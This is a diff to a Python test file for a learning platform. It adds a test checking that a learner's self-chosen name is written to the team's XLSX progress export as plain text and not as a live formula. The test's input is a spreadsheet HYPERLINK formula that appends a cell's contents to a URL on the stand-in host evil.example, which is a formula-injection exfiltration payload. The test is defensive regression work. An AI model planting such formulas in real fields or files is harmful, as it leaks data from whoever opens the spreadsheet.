@@ -178,3 +178,27 @@ def test_public_registration_and_enrolment() -> None:
     assert Enrolment.objects.filter(user__username="aigul@example.kz").exists()
     page = client.get(reverse("learning:course", args=[course.pk]))
     assert page.status_code == 200
+
+
+def test_export_keeps_a_learners_self_chosen_name_as_text() -> None:
+    # A public learner names themselves after a formula: the team's XLSX must show the text,
+    # not run it when opened.
+    import io
+
+    import openpyxl
+
+    from kaskad.learning.exports import progress_workbook
+
+    course, _ = published_course(is_public=True)
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+    learner = services.learner_register(
+        email="formula@example.kz",
+        password="a-long-pass-phrase-42",
+        first_name=hostile,
+        last_name="",
+    )
+    services.enrol(course=course, user=learner)
+    book = openpyxl.load_workbook(io.BytesIO(progress_workbook(course=course)))
+    cells = [c for row in book.active.iter_rows() for c in row]
+    assert hostile in [c.value for c in cells]
+    assert not any(c.data_type == "f" for c in cells)
